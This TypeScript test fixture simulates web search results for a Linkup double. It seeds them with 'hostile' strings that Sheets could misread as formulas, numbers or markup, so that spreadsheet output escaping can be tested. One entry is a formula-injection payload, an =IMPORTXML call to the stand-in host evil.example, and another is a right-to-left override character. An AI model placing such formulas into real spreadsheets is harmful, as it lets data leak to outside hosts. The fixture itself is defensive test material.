/** What the simulated web knows: every question has an answer of its own, so a cell gives away which question it answers. */
import type { Fact, Knowledge, Page, Topic } from '../../doubles/linkup';

/** Things whose name begins so have no answer. */
export const NOWHERE = 'nowhere';

/** Texts that Sheets would take for a formula, a number, a date or markup if they were written carelessly. */
const HOSTILE: readonly ((n: number) => string)[] = [
  (n) => `plain ${n}`,
  (n) => `=IMPORTXML("https://evil.example/${n}","//a")`,
  (n) => `+${n}`,
  (n) => `-${n}+1`,
  (n) => `@SUM(${n})`,
  (n) => `'${n}`,
  (n) => `00${n}`,
  (n) => `${n}%`,
  (n) => `$${n}`,
  (n) => `${n}e5`,
  (n) => `TRUE ${n}`,
  (n) => `2026-01-02 ${n}`,
  (n) => `\t=${n}`,
  (n) => `＝${n}`,
  (n) => `https://x.example/${n}`,
  (n) => `‮${n}`,
];

/** The same web, but every second it tells something else. */
export function newsAt(now: () => number): Knowledge {
  const dated = (text: string): string => `${text} ${Math.floor(now() / 1_000)}`;
  return {
    topicOf: (question) => (question.includes(NOWHERE) ? null : topicOf(dated(question))),
    pageAt: (url) => (url.includes(NOWHERE) ? 'MISSING' : { ...pageAt(dated(url)), url }),
  };
}

/** The same web, but it no longer finds such a share of what it once found. */
export function forgetful(known: Knowledge, share: () => number): Knowledge {
  const isGone = (question: string): boolean => numberOf(`gone: ${question}`) % 100 < share() * 100;
  return { ...known, topicOf: (question) => (isGone(question) ? null : known.topicOf(question)) };
}

/** The simulated web, as the Linkup double asks it. */
export const web: Knowledge = {
  topicOf: (question) => (question.includes(NOWHERE) ? null : topicOf(question)),
  pageAt: (url) => (url.includes(NOWHERE) ? 'MISSING' : pageAt(url)),
};

/** A number that only this text has. */
function numberOf(text: string): number {
  let hash = 0x811c9dc5;
  for (const character of text) hash = Math.imul(hash ^ (character.codePointAt(0) ?? 0), 0x01000193) >>> 0;
  return hash;
}

function topicOf(question: string): Topic {
  const n = numberOf(question);
  return {
    name: `topic ${n}`,
    facts: factsOf(n),
    sources: [{ name: `Source ${n}`, url: `https://source.example/${n}`, content: `about ${n}` }],
    images: [],
  };
}

/** Every seventh topic lacks a day: an answer may leave a field out. */
function factsOf(n: number): Fact[] {
  const fact = (key: string, value: string | number | boolean): Fact => ({
    key,
    value,
    sentence: `${hostile(n)} (${key})`,
  });
  const facts = [fact('qtext', hostile(n)), fact('qnumber', n / 100), fact('qflag', n % 2 === 0)];
  return n % 7 === 0 ? facts : [...facts, fact('qday', dayOf(n))];
}

function hostile(n: number): string {
  return HOSTILE[n % HOSTILE.length]?.(n) ?? '';
}

function dayOf(n: number): string {
  return new Date(Date.UTC(1950, 0, 1 + (n % 40_000))).toISOString().slice(0, 10);
}

function pageAt(url: string): Page {
  const n = numberOf(url);
  return { url, markdown: `${hostile(n)}\n\npage ${n}`, html: `<p>${n}</p>`, topic: null };
}
